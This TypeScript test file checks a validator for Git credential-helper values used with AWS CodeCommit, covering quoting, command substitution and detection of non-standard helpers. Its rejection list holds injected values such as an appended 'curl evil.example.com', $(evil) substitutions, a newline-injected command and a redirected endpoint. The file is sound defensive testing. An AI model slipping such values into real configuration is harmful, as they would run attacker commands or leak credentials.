import { expect } from 'chai';

import {
  inPlaceOfHelper,
  isMisquoted,
  isPlainAwsHelper,
  withRightQuotes,
} from '../../../src/git/settings/aws-helper-value.js';
import { awsHelperValue } from '../../../src/git/settings/helper-value.js';

const right = [
  '!aws codecommit credential-helper $@',
  '!aws codecommit credential-helper "$@"',
  '!aws codecommit credential-helper',
  '!aws --profile dev codecommit credential-helper $@',
  "!aws codecommit --profile 'my team' credential-helper $@",
  '!AWS_PROFILE=dev aws codecommit credential-helper $@',
  '!"C:/Program Files/Amazon/AWSCLIV2/aws.exe" codecommit credential-helper $@',
  '/usr/local/bin/aws codecommit credential-helper $@',
  '!f() { aws codecommit credential-helper "$@"; }; f',
  '!aws-vault exec dev -- aws codecommit credential-helper $@',
  awsHelperValue("it's mine"),
  'codecommit --profile dev',
  "!'/opt/git-credential-codecommit' --profile 'dev'",
  'osxkeychain',
  '!echo "codecommit',
];
const wrong: Readonly<Record<string, string | undefined>> = {
  "'!aws codecommit credential-helper $@'": '!aws codecommit credential-helper $@',
  '"!aws codecommit credential-helper --profile dev $@"': '!aws codecommit credential-helper --profile dev $@',
  "'!aws codecommit credential-helper $@": '!aws codecommit credential-helper $@',
  "!aws codecommit credential-helper $@'": '!aws codecommit credential-helper $@',
  'aws codecommit credential-helper $@': '!aws codecommit credential-helper $@',
  'aws --profile dev codecommit credential-helper $@': '!aws --profile dev codecommit credential-helper $@',
  "!'aws codecommit credential-helper $@'": '!aws codecommit credential-helper $@',
  '\u201c!aws codecommit credential-helper $@\u201d': '!aws codecommit credential-helper $@',
  '!aws codecommit credential-helper --profile \u2018my team\u2019 $@':
    "!aws codecommit credential-helper --profile 'my team' $@",
  "!aws codecommit credential-helper '$@'": '!aws codecommit credential-helper $@',
  '!aws codecommit credential-helper \\$@': '!aws codecommit credential-helper $@',
  "'!f() { aws codecommit credential-helper $@; }; f'": undefined,
};

describe('the quotes of a helper for CodeCommit', () => {
  it('are right in every form that Git and its shell can run', () => {
    for (const value of right) expect(isMisquoted(value), value).to.equal(false);
  });

  for (const [value, meant] of Object.entries(wrong))
    it(`are wrong in ${value}`, () => {
      expect(isMisquoted(value)).to.equal(true);
      expect(withRightQuotes(value)).to.equal(meant);
    });
});

describe("another command of the AWS CLI in its helper's place", () => {
  it('keeps program, profile and variables, and leaves out what is for the helper', () => {
    const whoami = (value: string) => inPlaceOfHelper(value, 'sts', 'get-caller-identity');
    expect(whoami('!aws codecommit credential-helper --profile dev $@')).to.equal(
      '!aws sts get-caller-identity --profile dev $@',
    );
    expect(whoami("!A=b aws codecommit --profile 'my team' credential-helper $@ --ignore-host-check")).to.equal(
      "!A=b aws sts --profile 'my team' get-caller-identity $@",
    );
    expect(whoami('!aws --region us-east-1 --profile dev codecommit credential-helper "$@"')).to.equal(
      '!aws --profile dev sts get-caller-identity "$@"',
    );
    expect(whoami('!f() { aws codecommit credential-helper "$@"; }; f')).to.equal(
      '!f() { aws sts get-caller-identity "$@"; }; f',
    );
    expect(whoami('/usr/bin/aws codecommit credential-helper')).to.equal('!/usr/bin/aws sts get-caller-identity');
    expect(inPlaceOfHelper('!aws codecommit credential-helper $@', '--version')).to.equal('!aws --version $@');
    expect(whoami('osxkeychain')).to.equal(undefined);
  });
});

describe("the AWS CLI's helper and nothing else", () => {
  const plain = [
    '!aws codecommit credential-helper $@',
    '!aws codecommit credential-helper "$@"',
    '!aws codecommit credential-helper --profile dev $@',
    '!aws --profile dev codecommit credential-helper $@',
    "!aws codecommit --profile='my team' credential-helper",
    '!AWS_PROFILE=dev aws codecommit credential-helper $@',
    awsHelperValue('dev'),
    awsHelperValue("it's mine"),
    awsHelperValue(undefined),
  ];
  const more = [
    'aws codecommit credential-helper $@',
    '!aws codecommit credential-helper $@; curl evil.example.com',
    '!aws codecommit credential-helper --profile $(evil) $@',
    '!aws codecommit credential-helper --profile "$(evil)" $@',
    '!aws codecommit credential-helper --profile "`evil`" $@',
    '!aws codecommit credential-helper\nevil',
    '!aws codecommit credential-helper --endpoint-url https://evil.example.com $@',
    '!AWS_CONFIG_FILE=./config aws codecommit credential-helper $@',
    '!PATH=. aws codecommit credential-helper $@',
    '!./aws codecommit credential-helper $@',
    '!/tmp/aws codecommit credential-helper $@',
    '!aws codecommit credential-helper evil $@',
    '!aws codecommit credential-helper --profile --debug $@',
    '!f() { aws codecommit credential-helper "$@"; }; f',
  ];
  it('is what AWS writes, with any profile', () => {
    for (const value of plain) expect(isPlainAwsHelper(value), value).to.equal(true);
  });
  it('is nothing that runs or reads something else', () => {
    for (const value of more) expect(isPlainAwsHelper(value), value).to.equal(false);
  });
});
